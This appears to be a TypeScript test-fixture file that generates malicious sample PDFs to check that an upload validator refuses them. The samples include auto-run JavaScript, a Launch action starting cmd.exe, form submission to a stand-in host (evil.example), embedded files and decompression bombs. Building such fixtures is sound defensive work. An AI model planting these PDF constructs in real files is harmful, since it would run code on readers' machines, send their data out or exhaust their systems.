import { deflateSync } from 'node:zlib';
import * as make from '../platform/files/samples/make.ts';
import type { Add } from './malicious-file.ts';

/** Papers that act, hide that they act, or unfold. */
export function papers(add: Add): void {
  const acting: Record<string, readonly [string, string]> = {
    'a script when it is opened': ['/OpenAction << /S /JavaScript /JS (app.alert(1)) >>', ''],
    'scripts by name': [
      '/Names << /JavaScript << /Names [(x) 4 0 R] >> >>',
      '<< /S /JavaScript /JS (x) >>',
    ],
    'a script in escaped words': ['/OpenAction << /S /J#61vaScript /J#53 (x) >>', ''],
    'a program to start': ['/OpenAction << /S /Launch /F (cmd.exe) >>', ''],
    'a file within': [
      '/Names << /EmbeddedFiles << /Names [(x) 4 0 R] >> >>',
      '<< /Type /Filespec /EF << >> >>',
    ],
    'another paper to open': ['/OpenAction << /S /GoToE /D [0] >>', ''],
    'a form to send elsewhere': ['/OpenAction << /S /SubmitForm /F (http://evil.example) >>', ''],
    'a form of XFA': ['/AcroForm << /XFA 4 0 R >>', '<< /Length 0 >>'],
    'an act with every page': ['/AA << /O << /S /JavaScript /JS (x) >> >>', ''],
    'a film with a program': ['', '<< /Type /Annot /Subtype /RichMedia >>'],
  };
  for (const [what, [catalogue, part]] of Object.entries(acting)) {
    const parts = part === '' ? [] : [{ dict: part }];
    // A paper may carry papers: who reads it is told.
    const refused = !/file within|another paper/.test(what);
    const is = 'application/pdf';
    add(`a PDF with ${what}`, make.pdf(parts, '', catalogue), { refused, is });
    const hidden = make.objectStream(`1 0 << ${catalogue} >> ${part}`);
    add(`a PDF with ${what}, compressed`, make.pdf([hidden]), { refused, is });
  }
  add('a PDF under a password', make.pdf([], '/Encrypt << /Filter /Standard /V 1 /R 2 >>'), {
    refused: true,
  });
  add('a PDF that unfolds', make.pdf([make.objectStream(Buffer.alloc(80_000_000))]));
  const twice = deflateSync(deflateSync(Buffer.alloc(50_000_000)));
  const dict = `<< /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length ${twice.length} >>`;
  add('a PDF that unfolds twice', make.pdf([{ dict, stream: twice }]));
  add('a PDF of ten thousand brackets', make.pdf([{ dict: '<<'.repeat(10_000) }]));
  add('a PDF that is cut', make.pdf().subarray(0, 200));
}
